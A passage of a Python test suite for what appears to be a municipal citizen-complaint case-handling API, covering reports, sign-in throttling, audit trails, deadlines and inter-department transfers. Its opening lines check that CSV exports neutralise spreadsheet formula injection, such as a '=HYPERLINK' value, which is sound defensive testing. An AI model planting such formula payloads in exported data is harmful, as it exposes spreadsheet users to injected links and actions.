    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "@"))]
    assert "'=HYPERLINK" in report


async def test_reports_download_for_staff_only(api: Api) -> None:
    await api.seed(routed("m1"))
    csv_response = await api.client.get("/api/v1/reports/monthly", params={"format": "csv"})
    assert csv_response.status_code == 200 and csv_response.headers["content-type"].startswith("text/csv")
    assert "attachment" in csv_response.headers["content-disposition"]
    html = await api.client.get("/api/v1/reports/weekly", params={"format": "html"})
    assert html.status_code == 200 and "<svg" in html.text
    assert (await api.client.get("/api/v1/reports/daily")).status_code == 404
    handler = await api.as_user("rep-h", "handler", "housing")
    assert (await api.client.get("/api/v1/reports/weekly", headers=handler)).status_code == 403


async def test_sign_in_is_throttled_after_repeated_failures(api: Api) -> None:
    for _ in range(5):
        wrong = await api.client.post("/api/v1/auth/token", data={"username": "admin", "password": "guess"})
        assert wrong.status_code == 401
    blocked = await api.client.post("/api/v1/auth/token", data={"username": "admin", "password": "admin"})
    assert blocked.status_code == 429 and int(blocked.headers["retry-after"]) > 0
    # Other users are not locked out by someone guessing at the admin's password.
    await api.as_user("unaffected", "operator")


async def test_supervisor_reads_of_a_case_are_audited(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    supervisor = await api.as_user("sup-r", "supervisor")
    operator = await api.as_user("op-r", "operator")
    await api.client.get(f"/api/v1/cases/{case_id}", headers=supervisor)
    await api.client.get(f"/api/v1/cases/{case_id}", headers=operator)
    audit = (await api.client.get(f"/api/v1/cases/{case_id}/audit")).json()
    assert [(a["actor"], a["action"]) for a in audit if a["action"] == "read"] == [("sup-r", "read")]


async def test_a_double_click_does_not_message_the_citizen_twice(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "confirm")
    first = await api.act(case_id, "reply", {"text": "您好，已安排维修。"})
    assert first.status_code == 200
    again = await api.act(case_id, "reply", {"text": "您好，已安排维修。"})
    assert again.status_code == 409 and "already sent" in again.json()["detail"]
    assert len((await api.client.get(f"/api/v1/cases/{case_id}")).json()["replies"]) == 1
    # Something else to say is said.
    assert (await api.act(case_id, "reply", {"text": "维修人员明早九点到。"})).status_code == 200


async def test_a_case_reopened_long_after_keeps_its_new_period_when_classified_again(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "confirm")
    await api.act(case_id, "reply", {"text": "已处理"})
    await api.deliver(case_id)
    await api.act(case_id, "close")
    # Received three weeks ago: its first resolution period is long over.
    engine = make_engine(api.database_url)
    async with make_sessionmaker(engine)() as session, session.begin():
        await session.execute(
            update(Case).where(Case.id == UUID(case_id)).values(created_at=utcnow() - timedelta(days=21))
        )
    await engine.dispose()
    reopened = (await api.act(case_id, "reopen", {"reason": "市民不满意"})).json()
    classified = (await api.act(case_id, "classify", {"category_id": "housing-property"})).json()
    assert classified["resolution_due_at"] == reopened["resolution_due_at"]
    assert datetime.fromisoformat(classified["due_at"]) > utcnow()  # not overdue the moment it is classified


async def test_a_reply_that_failed_can_be_sent_again_at_once(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "confirm")
    [reply] = (await api.act(case_id, "reply", {"text": "您好，已安排维修。"})).json()["replies"]
    engine = make_engine(api.database_url)
    async with make_sessionmaker(engine)() as session, session.begin():  # the platform refused it
        await session.execute(update(Reply).where(Reply.id == UUID(reply["id"])).values(status="failed"))
    await engine.dispose()
    assert (await api.act(case_id, "reply", {"text": "您好，已安排维修。"})).status_code == 200


async def test_classifying_applies_the_categorys_own_first_response(
    database_url: str, kafka_settings: KafkaSettings, tmp_path: Path
) -> None:
    """sla.yaml gives public security a shorter first response: a case the router proposed elsewhere and an
    operator classified as public security is due by that rule, counted from receipt, before anyone answers."""
    rule = "policies:\n  - category: public-security\n    first_response:"
    rule += " {in_working_time: {working_hours: 0.5}, outside_working_time: {hours: 2}}\n"
    sla = tmp_path / "sla.yaml"
    sla.write_text(DEFAULT_SLA.replace("policies: []\n", rule), "utf-8")
    settings = Settings(
        kafka=kafka_settings, db=DatabaseSettings(DATABASE_URL=database_url), sla=SlaSettings(policy_file=sla)
    )
    async with serving(create_app(settings)) as client:
        client.headers["Authorization"] = await bearer(client, "admin", "admin")
        api = Api(client, kafka_settings, database_url)
        [case_id] = await api.seed(routed("m1", text="有人在小区门口打架"))
        await api.act(case_id, "accept")
        body = {"category_id": "public-security", "request_type": "投诉/求助"}
        response = await api.act(case_id, "classify", body)
        assert response.status_code == 200, response.text
        classified = response.json()
    taxonomy = load_taxonomy(Path("config/taxonomy.yaml"))
    calculator = SlaCalculator.from_settings(
        SlaSettings(policy_file=sla), categories=list(taxonomy.categories), request_types=taxonomy.request_types
    )
    received = datetime.fromisoformat(classified["created_at"])
    expected = CalendarPolicy(calculator).first_response_due(
        received, category_id="public-security", request_type="投诉/求助"
    )
    assert datetime.fromisoformat(classified["first_response_due_at"]) == expected
    assert datetime.fromisoformat(classified["due_at"]) == expected


def _reads(audit: list[dict], actor: str) -> int:
    return sum(1 for a in audit if (a["actor"], a["action"]) == (actor, "read"))


async def test_a_supervisor_reading_a_case_through_an_action_is_audited(api: Api) -> None:
    """Every action answers with the whole case (contact, messages, replies): a supervisor's is a read too."""
    [case_id] = await api.seed(routed("m1", sender="oSecretOpenId", text="我的电话13800000000"))
    supervisor = await api.as_user("sup-x", "supervisor")
    operator = await api.as_user("op-x", "operator")
    for action in ("claim", "release"):
        answered = await api.act(case_id, action, headers=supervisor)
        assert answered.status_code == 200, answered.text
        assert answered.json()["contact"]["sender_id"] == "oSecretOpenId"
    await api.act(case_id, "claim", headers=operator)  # operators' reads are not recorded
    audit = (await api.client.get(f"/api/v1/cases/{case_id}/audit")).json()
    assert _reads(audit, "sup-x") == 2
    assert _reads(audit, "op-x") == 0


async def test_a_supervisor_reading_a_citizen_through_contacts_or_the_audit_trail_is_audited(api: Api) -> None:
    """GET /contacts/{id} shows the citizen's platform id and every case of every linked identity; GET
    /cases/{id}/audit every snapshot: one read on record for each case shown."""
    first, second = await api.seed(routed("m1", sender="oSecretOpenId"), routed("m2", sender="oOtherOpenId"))
    contact_id = (await api.client.get(f"/api/v1/cases/{first}")).json()["contact"]["id"]
    other_id = (await api.client.get(f"/api/v1/cases/{second}")).json()["contact"]["id"]
    linked = await api.client.post(f"/api/v1/contacts/{contact_id}/link", json={"other_contact_id": other_id})
    assert linked.status_code == 200, linked.text
    supervisor = await api.as_user("sup-c", "supervisor")
    contact = await api.client.get(f"/api/v1/contacts/{contact_id}", headers=supervisor)
    assert contact.status_code == 200 and contact.json()["contact"]["sender_id"] == "oSecretOpenId"
    assert {c["id"] for c in contact.json()["cases"]} == {first, second}
    for case_id in (first, second):
        assert _reads((await api.client.get(f"/api/v1/cases/{case_id}/audit")).json(), "sup-c") == 1
    assert (await api.client.get(f"/api/v1/cases/{first}/audit", headers=supervisor)).status_code == 200
    assert _reads((await api.client.get(f"/api/v1/cases/{first}/audit")).json(), "sup-c") == 2


async def test_claiming_and_freeing_a_claim_are_on_record_and_announced(api: Api) -> None:
    """A supervisor freeing an operator's claim is attributable: who held it, who freed it, when."""
    [case_id] = await api.seed(routed("m1"))
    operator = await api.as_user("op-claim", "operator")
    supervisor = await api.as_user("sup-claim", "supervisor")
    assert (await api.act(case_id, "claim", headers=operator)).json()["claimed_by"] == "op-claim"
    assert (await api.act(case_id, "release", headers=supervisor)).json()["claimed_by"] is None
    audit = [a for a in (await api.client.get(f"/api/v1/cases/{case_id}/audit")).json() if a["action"] != "read"]
    assert [(a["actor"], a["action"]) for a in audit] == [
        ("system:intake", "created"),
        ("op-claim", "claimed"),
        ("sup-claim", "released"),
    ]
    assert (audit[1]["reason"], audit[2]["reason"]) == (None, "was claimed by op-claim")
    _, claimed, released = await api.events(expect=3)
    assert (claimed.type, claimed.data.change.actor) == ("gov.inbox.case.claimed", "op-claim")
    assert claimed.data.change.details["previous_claimed_by"] is None
    assert (released.type, released.data.change.actor) == ("gov.inbox.case.released", "sup-claim")
    assert released.data.change.details == {"previous_claimed_by": "op-claim"}


async def test_a_former_co_handler_loses_the_case_when_it_is_reopened_and_sent_elsewhere(api: Api) -> None:
    """A new dispatch after reopening starts a new round: the helpers of the last one keep no part, no access."""
    [case_id] = await api.seed(routed("m1"))
    env = await api.as_user("h-env", "handler", "environment")
    await api.act(case_id, "accept")
    await api.act(case_id, "classify", {"category_id": "housing-property"})
    helper = {"co_handlers": [{"department_id": "environment", "part": "检测噪音"}]}
    assert (await api.act(case_id, "dispatch", helper)).status_code == 200
    done = await api.act(case_id, "co-handlers/environment/complete", {"note": "达标"}, headers=env)
    assert done.status_code == 200, done.text
    await api.act(case_id, "reply", {"text": "已处理"})
    await api.deliver(case_id)
    await api.act(case_id, "close")
    await api.act(case_id, "reopen", {"reason": "市民不满意"})
    await api.act(case_id, "classify", {"category_id": "housing-property"})
    moved = await api.act(case_id, "dispatch", {"department_id": "commerce"})
    assert moved.status_code == 200, moved.text
    assert [(d["department_id"], d["role"]) for d in moved.json()["departments"]] == [("commerce", "lead")]
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=env)).status_code == 404
    assert (await api.client.get("/api/v1/cases", headers=env)).json()["total"] == 0
    dispatched = [e for e in await api.events(expect=10) if e.type == "gov.inbox.case.dispatched"][-1]
    assert dispatched.data.change.details["ended_co_handlers"] == ["environment"]
    assert dispatched.data.change.details["departments_left"] == ["environment", "housing"]
    # The part the department did stays in the case's history.
    audit = (await api.client.get(f"/api/v1/cases/{case_id}/audit")).json()
    assert [(a["actor"], a["reason"]) for a in audit if a["action"] == "complete-part"] == [("h-env", "达标")]


async def test_a_transfer_keeps_the_co_handlers_parts(api: Api) -> None:
    """A transfer changes the lead within the same round of work: a helper's part still has to be done (the case
    cannot close without it), so the helper keeps its part and its access."""
    [case_id] = await api.seed(routed("m1"))
    env = await api.as_user("h-env2", "handler", "environment")
    await api.act(case_id, "accept")
    await api.act(case_id, "classify", {"category_id": "housing-property"})
    await api.act(case_id, "dispatch", {"co_handlers": [{"department_id": "environment", "part": "检测噪音"}]})
    moved = await api.act(case_id, "transfer", {"department_id": "market", "reason": "属于市场监管"})
    assert moved.status_code == 200, moved.text
    assert [(d["department_id"], d["role"]) for d in moved.json()["departments"]] == [
        ("market", "lead"),
        ("environment", "helper"),
    ]
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=env)).status_code == 200


async def _co_handled(api: Api) -> str:
    """A case dispatched to housing with environment helping."""
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "accept")
    await api.act(case_id, "classify", {"category_id": "housing-property"})
    helper = {"co_handlers": [{"department_id": "environment", "part": "检测噪音"}]}
    assert (await api.act(case_id, "dispatch", helper)).status_code == 200
    return case_id


async def test_a_co_handler_is_offered_only_what_it_can_do(api: Api) -> None:
    """The actions a case offers are the ones that would succeed: a helper escalates and completes its own part;
    answering, transferring and closing are the lead's, and a helper's claim would keep operators off the case."""
    case_id = await _co_handled(api)
    env = await api.as_user("h-env3", "handler", "environment")
    housing = await api.as_user("h-housing3", "handler", "housing")
    offered = (await api.client.get(f"/api/v1/cases/{case_id}", headers=env)).json()["allowed_actions"]
    assert sorted(offered) == ["complete-part", "escalate"]
    lead = (await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)).json()["allowed_actions"]
    assert {"reply", "transfer", "add-co-handler", "remove-co-handler", "escalate"} <= set(lead)
    assert "complete-part" not in lead  # the lead's handlers complete no helper's part
    await api.act(case_id, "reply", {"text": "已处理"}, headers=housing)
    await api.act(case_id, "escalate", {"reason": "久拖未决"}, headers=housing)
    lead = (await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)).json()["allowed_actions"]
    assert "close" not in lead and "escalate" not in lead  # a part is open; escalated already
    refused = await api.act(case_id, "claim", headers=env)
    assert refused.status_code == 409 and "lead department" in refused.json()["detail"]
    illegal = await api.act(case_id, "reopen", {"reason": "x"}, headers=env)  # staff only: 403, not listed
    assert illegal.status_code == 403
    illegal = await api.act(case_id, "wait-on-citizen", {"text": "请补充"}, headers=env)  # replied: illegal now
    assert illegal.status_code == 409 and illegal.json()["allowed_actions"] == ["complete-part"]  # as offered
    assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["claimed_by"] is None
    completed = await api.act(case_id, "co-handlers/environment/complete", {"note": "达标"}, headers=env)
    assert completed.json()["allowed_actions"] == []  # and with its part done, the case is no longer its to read:
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=env)).status_code == 404
    lead = (await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)).json()["allowed_actions"]
    assert "remove-co-handler" not in lead and "close" in lead  # nothing open left to withdraw


async def test_the_lead_withdraws_a_part_it_no_longer_needs_and_the_case_can_close(api: Api) -> None:
    case_id = await _co_handled(api)
    env = await api.as_user("h-env4", "handler", "environment")
    housing = await api.as_user("h-housing4", "handler", "housing")
    await api.act(case_id, "reply", {"text": "已处理"}, headers=housing)
    assert (await api.act(case_id, "close", headers=housing)).status_code == 409  # environment's part is open
    path = "co-handlers/environment/remove"
    assert (await api.act(case_id, path, {"reason": " "}, headers=housing)).status_code == 422
    assert (await api.act(case_id, path, {"reason": "不再需要"}, headers=env)).status_code == 409  # not the lead
    unknown = await api.act(case_id, "co-handlers/market/remove", {"reason": "不再需要"}, headers=housing)
    assert unknown.status_code == 422 and "market" in unknown.json()["detail"]
    removed = await api.act(case_id, path, {"reason": "现场已核实，无需检测"}, headers=housing)
    assert removed.status_code == 200, removed.text
    assert [d["department_id"] for d in removed.json()["departments"]] == ["housing"]
    # The department whose part was withdrawn no longer sees the case; the lead can close it.
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=env)).status_code == 404
    await api.deliver(case_id)
    assert (await api.act(case_id, "close", headers=housing)).json()["status"] == "closed"
    event = next(e for e in await api.events(expect=7) if e.type == "gov.inbox.case.co-handler-removed")
    assert event.data.change.reason == "现场已核实，无需检测"
    assert event.data.change.details == {
        "department_id": "environment",
        "part": "检测噪音",
        "departments_left": ["environment"],
    }
    audit = (await api.client.get(f"/api/v1/cases/{case_id}/audit")).json()
    assert [(a["actor"], a["reason"]) for a in audit if a["action"] == "remove-co-handler"] == [
        ("h-housing4", "现场已核实，无需检测")
    ]


async def test_a_done_part_stays_on_the_case(api: Api) -> None:
    case_id = await _co_handled(api)
    env = await api.as_user("h-env5", "handler", "environment")
    await api.act(case_id, "co-handlers/environment/complete", {"note": "达标"}, headers=env)
    refused = await api.act(case_id, "co-handlers/environment/remove", {"reason": "不再需要"})
    assert refused.status_code == 409 and "done" in refused.json()["detail"]
    parts = (await api.client.get(f"/api/v1/cases/{case_id}")).json()["departments"]
    assert [(p["department_id"], p["status"]) for p in parts] == [("housing", "open"), ("environment", "done")]


async def test_no_active_category_routes_to_an_inactive_department(api: Api) -> None:
    """Dispatching by category must always reach a department that can take cases."""
    closed = {"id": "old-bureau", "name": "已撤销的局", "active": False}
    assert (await api.client.put("/api/v1/departments/old-bureau", json=closed)).status_code == 200
    category = {"id": "old-matters", "name": "旧事项", "department_id": "old-bureau"}
    refused = await api.client.put("/api/v1/categories/old-matters", json=category)
    assert refused.status_code == 422 and "old-bureau" in refused.json()["detail"]
    kept = await api.client.put("/api/v1/categories/old-matters", json=category | {"active": False})
    assert kept.status_code == 200  # an inactive category may keep its old department
    # The other way round: a department cannot close while active categories still go to it.
    housing = {"id": "housing", "name": "市住房和城乡建设局", "active": False}
    blocked = await api.client.put("/api/v1/departments/housing", json=housing)
    assert blocked.status_code == 409 and "housing-property" in blocked.json()["detail"]
    departments = (await api.client.get("/api/v1/departments")).json()
    assert next(d for d in departments if d["id"] == "housing")["active"] is True
    categories = (await api.client.get("/api/v1/categories")).json()
    assert "old-matters" not in {c["id"] for c in categories if c["active"]}
    # Housing's categories moved, housing closed: a restart (which seeds from taxonomy.yaml) keeps it that way.
    for moved in [c | {"department_id": "market"} for c in categories if c["department_id"] == "housing"]:
        assert (await api.client.put(f"/api/v1/categories/{moved['id']}", json=moved)).status_code == 200
    assert (await api.client.put("/api/v1/departments/housing", json=housing)).status_code == 200
    engine = make_engine(api.database_url)
    async with make_sessionmaker(engine)() as session:
        await seed_from_taxonomy(session, taxonomy=load_taxonomy(Path("config/taxonomy.yaml")))
    await engine.dispose()
    after = {c["id"]: c for c in (await api.client.get("/api/v1/categories")).json()}
    assert after["housing-property"]["department_id"] == after["utilities"]["department_id"] == "market"


@pytest.mark.parametrize("database_url", ["postgres"], indirect=True)
async def test_closing_a_department_and_routing_a_category_to_it_cannot_both_pass(api: Api) -> None:
    """Two administrators at once: each check alone passes, so the second must wait for the first and see it."""
    bureau = {"id": "quiet-bureau", "name": "新设机构", "active": True}
    assert (await api.client.put("/api/v1/departments/quiet-bureau", json=bureau)).status_code == 200
    category = {"id": "quiet-matters", "name": "新事项", "department_id": "quiet-bureau"}
    engine = make_engine(api.database_url)
    # Another administrator closing it: checked (no category goes there), row locked, not yet committed.
    async with engine.connect() as other:
        await other.execute(text("SELECT id FROM departments WHERE id = 'quiet-bureau' FOR UPDATE"))
        await other.execute(text("UPDATE departments SET active = false WHERE id = 'quiet-bureau'"))
        routing = asyncio.create_task(api.client.put("/api/v1/categories/quiet-matters", json=category))
        await asyncio.sleep(0.5)
        assert not routing.done()  # waits for the closing to finish instead of reading the old state
        await other.commit()
    refused = await routing
    assert refused.status_code == 422 and "quiet-bureau" in refused.json()["detail"]
    # The other way round: a category routed there meanwhile keeps the department open.
    assert (await api.client.put("/api/v1/departments/quiet-bureau", json=bureau)).status_code == 200
    async with engine.connect() as other:
        await other.execute(text("SELECT id FROM departments WHERE id = 'quiet-bureau' FOR UPDATE"))
        await other.execute(
            text(
                "INSERT INTO categories (id, name, department_id, active)"
                " VALUES ('quiet-matters', '新事项', 'quiet-bureau', true)"
            )
        )
        closing = asyncio.create_task(
            api.client.put("/api/v1/departments/quiet-bureau", json=bureau | {"active": False})
        )
        await asyncio.sleep(0.5)
        assert not closing.done()
        await other.commit()
    await engine.dispose()
    blocked = await closing
    assert blocked.status_code == 409 and "quiet-matters" in blocked.json()["detail"]


async def test_a_department_returns_a_case_that_is_not_theirs_to_the_operators(api: Api) -> None:
    """DESIGN: handlers "ask for transfer". A department that does not know who owns a case sends it back with
    why (and who it thinks owns it); the operators see it again and dispatch it, the citizen's deadline unchanged."""
    case_id = await _co_handled(api)  # housing leads, environment helps
    housing = await api.as_user("h-housing6", "handler", "housing")
    env = await api.as_user("h-env6", "handler", "environment")
    operator = await api.as_user("op6", "operator")
    await api.act(case_id, "claim", headers=housing)
    before = (await api.client.get(f"/api/v1/cases/{case_id}")).json()
    assert (await api.act(case_id, "return", {"reason": "   "}, headers=housing)).status_code == 422
    assert (await api.act(case_id, "return", {"reason": "不归我局"}, headers=env)).status_code == 409  # a helper
    unknown = await api.act(case_id, "return", {"reason": "不归我局", "department_id": "nowhere"}, headers=housing)
    assert unknown.status_code == 422 and "nowhere" in unknown.json()["detail"]
    returned = await api.act(
        case_id, "return", {"reason": "属于市场监管职责", "department_id": "market"}, headers=housing
    )
    assert returned.status_code == 200, returned.text
    body = returned.json()
    assert (body["status"], body["department_id"], body["claimed_by"]) == ("classified", None, None)
    assert [
        (t["kind"], t["from_department_id"], t["to_department_id"], t["suggested_department_id"])
        for t in body["transfers"]
    ] == [("return", "housing", None, "market")]
    # The operators find it under the department suggested, not the one that returned it, and among the returned.
    for owner, expected in [("market", [case_id]), ("housing", [])]:
        page = (await api.client.get("/api/v1/queue", params={"department_id": owner}, headers=operator)).json()
        assert [c["id"] for c in page["items"]] == expected, owner
    for returned, expected in [("true", [case_id]), ("false", [])]:
        page = (await api.client.get("/api/v1/queue", params={"returned": returned}, headers=operator)).json()
        assert [c["id"] for c in page["items"]] == expected, returned
    assert body["departments"] == [] and body["resolution_due_at"] == before["resolution_due_at"]
    for department in (housing, env):  # the round is over for both
        assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=department)).status_code == 404
    queue = (await api.client.get("/api/v1/queue", headers=operator)).json()
    assert [c["id"] for c in queue["items"]] == [case_id]
    event = (await api.events(expect=6))[-1]
    assert event.type == "gov.inbox.case.returned" and event.data.change.reason == "属于市场监管职责"
    assert event.data.change.details == {
        "from_department_id": "housing",
        "suggested_department_id": "market",
        "ended_co_handlers": ["environment"],
        "departments_left": ["environment", "housing"],
    }
    again = await api.act(case_id, "dispatch", {"department_id": "market"}, headers=operator)
    assert again.status_code == 200, again.text
    assert [(d["department_id"], d["role"]) for d in again.json()["departments"]] == [("market", "lead")]


async def test_statistics_count_a_departments_returns_apart_from_its_transfers(api: Api) -> None:
    """Supervisors watch departments that bounce cases back (推诿): returns are their own figure."""
    passed, returned, pulled_back = await api.seed(*(routed(f"m{i}", sender=f"s{i}") for i in (1, 2, 3)))
    for case_id in (passed, returned, pulled_back):
        await api.act(case_id, "confirm")  # to housing
    housing_handler = await api.as_user("h-housing7", "handler", "housing")
    await api.act(passed, "transfer", {"department_id": "market", "reason": "属于市场监管"})
    assert (await api.act(returned, "return", {"reason": "不属于我局职责"}, headers=housing_handler)).is_success
    # An operator pulling back their own wrong dispatch is no return of the department's, but it is history.
    pulled = await api.act(pulled_back, "return", {"reason": "派错了"})
    assert [(t["kind"], t["from_department_id"], t["actor"]) for t in pulled.json()["transfers"]] == [
        ("recall", "housing", "admin")
    ]
    page = (await api.client.get("/api/v1/queue", params={"returned": "true"})).json()
    assert [c["id"] for c in page["items"]] == [returned]
    rows = (await api.client.get("/api/v1/stats/departments")).json()["departments"]
    by_id = {r["department_id"]: r for r in rows}
    housing, market = by_id["housing"], by_id["market"]
    assert (housing["transfers_out"], housing["returned"], housing["transfers_in"]) == (1, 1, 0)
    assert (market["transfers_in"], market["transfers_out"], market["returned"]) == (1, 0, 0)
    report = (await api.client.get("/api/v1/reports/weekly", params={"format": "csv"})).text
    [header] = [line for line in report.splitlines() if line.startswith("department,rank")]
    assert ",transfers_out,returned," in header


async def test_a_returned_case_keeps_its_deadlines_and_stops_waiting(api: Api) -> None:
    """The citizen has waited since the message came: sending the case back and correcting its category starts
    no clock again, and a wait on the citizen ends (the operators cannot resume it; its deadline must show)."""
    promised, waiting = await api.seed(routed("m1", sender="s1"), routed("m2", sender="s2"))
    housing = await api.as_user("h-housing8", "handler", "housing")
    for case_id in (promised, waiting):
        await api.act(case_id, "confirm")
    promise = (utcnow() + timedelta(days=10)).replace(microsecond=0).isoformat()
    moved = await api.act(promised, "interim-reply", {"text": "十日内答复", "promised_at": promise}, headers=housing)
    due = moved.json()["resolution_due_at"]
    await api.act(promised, "return", {"reason": "不属于我局"}, headers=housing)
    again = await api.act(promised, "classify", {"category_id": "market-consumer"})
    assert again.status_code == 200, again.text
    assert again.json()["resolution_due_at"] == due
    await api.act(waiting, "wait-on-citizen", {"text": "请提供具体地址"}, headers=housing)
    back = (await api.act(waiting, "return", {"reason": "不属于我局"}, headers=housing)).json()
    assert back["waiting_since"] is None and back["due_at"] is not None


async def test_confirm_keeps_what_people_decided_after_the_router(api: Api) -> None:
    """One action for the operator, but never undoing a person's decision: a category the operator corrected, or
    the department a returning department suggested, is what confirming goes by, not the router's first guess."""
    corrected, suggested, unsuggested = await api.seed(*(routed(f"m{i}", sender=f"s{i}") for i in (1, 2, 3)))
    housing = await api.as_user("h-housing9", "handler", "housing")
    await api.act(corrected, "accept")
    assert (await api.act(corrected, "classify", {"category_id": "market-consumer"})).is_success
    body = (await api.act(corrected, "confirm")).json()
    assert (body["category_id"], body["department_id"]) == ("market-consumer", "market")
    for case_id in (suggested, unsuggested):
        await api.act(case_id, "confirm")  # to housing, as the router proposed
    await api.act(suggested, "return", {"reason": "属于市场监管", "department_id": "market"}, headers=housing)
    body = (await api.act(suggested, "confirm")).json()
    assert (body["status"], body["category_id"], body["department_id"]) == ("dispatched", "housing-property", "market")
    await api.act(unsuggested, "return", {"reason": "不属于我局"}, headers=housing)
    refused = await api.act(unsuggested, "confirm")
    assert refused.status_code == 409 and "without suggesting" in refused.json()["detail"]
    assert (await api.client.get(f"/api/v1/cases/{unsuggested}")).json()["status"] == "classified"


async def test_the_department_that_led_a_reopened_case_waits_for_the_operators_to_dispatch_it_again(api: Api) -> None:
    """Reopened and reclassified for another department, the case is still visible to the one that led it, which
    must not answer it behind the operators' back."""
    [case_id] = await api.seed(routed("m1"))
    housing = await api.as_user("h-reopened", "handler", "housing")
    await api.act(case_id, "confirm")
    await api.act(case_id, "reply", {"text": "已处理"}, headers=housing)
    await api.deliver(case_id)
    await api.act(case_id, "close")
    await api.act(case_id, "reopen", {"reason": "市民不满意"})
    await api.act(case_id, "classify", {"category_id": "market-consumer"})
    seen = await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)
    assert seen.status_code == 200 and seen.json()["allowed_actions"] == ["escalate"]
    refused = await api.act(case_id, "reply", {"text": "再次答复"}, headers=housing)
    assert refused.status_code == 409 and refused.json()["allowed_actions"] == ["escalate"]
    assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["status"] == "classified"
